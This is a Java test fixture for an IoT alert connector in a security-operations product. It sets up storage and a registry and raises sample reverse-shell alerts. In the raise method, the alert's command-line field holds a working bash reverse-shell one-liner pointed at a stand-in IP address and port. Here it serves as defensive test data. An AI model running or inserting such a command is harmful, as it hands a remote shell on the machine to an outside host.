package dev.vigil.soc.connector.iot;

import dev.vigil.iot.alert.AlertDefinition;
import dev.vigil.iot.alert.AlertEntity;
import dev.vigil.iot.alert.AlertOccurrence;
import dev.vigil.iot.alert.AlertSeverity;
import dev.vigil.iot.alert.IotAlert;
import dev.vigil.iot.alert.IotAlerts;
import dev.vigil.iot.registry.HubSecuritySettings;
import dev.vigil.iot.registry.IotHub;
import dev.vigil.iot.registry.IotRegistry;
import dev.vigil.iot.registry.Subscription;
import dev.vigil.workspace.api.Storage;
import dev.vigil.workspace.api.StorageSettings;
import dev.vigil.workspace.duckdb.DuckDbStorage;
import io.micrometer.core.instrument.simple.SimpleMeterRegistry;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;

/**
 * The real pieces the connector runs on, over one data directory: DuckDB storage, the IoT
 * registry, the IoT alerts and the connector. Closing and opening again over the same directory
 * is a restart.
 */
final class ConnectorFixture implements AutoCloseable {
    static final String WORKSPACE = "default";
    static final AlertDefinition REVERSE_SHELL = new AlertDefinition("IoT_ReverseShell", "Reverse shells", AlertSeverity.HIGH,
            "A reverse shell was detected on the device.", List.of("Review the command line.", "Escalate to the security team."));

    final Storage storage;
    final IotRegistry registry;
    final IotAlerts alerts;
    final DefenderForIotConnector connector;
    final Clock clock;

    private ConnectorFixture(Path data, Clock clock) {
        this.clock = clock;
        this.storage = DuckDbStorage.open(StorageSettings.defaults(data), new SimpleMeterRegistry());
        storage.logStore().createWorkspace(WORKSPACE);
        this.registry = new IotRegistry(storage.stateStore());
        this.alerts = IotAlerts.open(storage.stateStore(), clock, Duration.ofHours(1));
        this.connector = new DefenderForIotConnector(registry, storage.logStore(), storage.stateStore(), alerts.feed(), clock);
    }

    static ConnectorFixture open(Path data, Clock clock) {
        return new ConnectorFixture(data, clock);
    }

    /** A subscription with resource group {@code rg-1} and one hub, monitoring on or off. */
    IotHub hub(String subscriptionId, String hubName, boolean monitoring) {
        registry.putSubscription(new Subscription(subscriptionId, subscriptionId + " display"));
        registry.putResourceGroup(subscriptionId, "rg-1");
        HubSecuritySettings settings = new HubSecuritySettings(monitoring ? HubSecuritySettings.ENABLED : HubSecuritySettings.DISABLED,
                WORKSPACE, null, null);
        return registry.putHub(subscriptionId, "rg-1", hubName, settings);
    }

    /** A new reverse-shell alert on a device of the hub. */
    IotAlert raise(IotHub hub, String deviceId, Instant at) {
        return alerts.raise(new AlertOccurrence(REVERSE_SHELL, hub.resourceId(), deviceId, at, "event-" + deviceId + "-" + at,
                Map.of("Command Line", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1", "User Name", "root", "DeviceId", deviceId),
                List.of(AlertEntity.iotDevice(hub.resourceId(), deviceId), AlertEntity.account("root"))));
    }

    @Override
    public void close() {
        storage.close();
    }
}
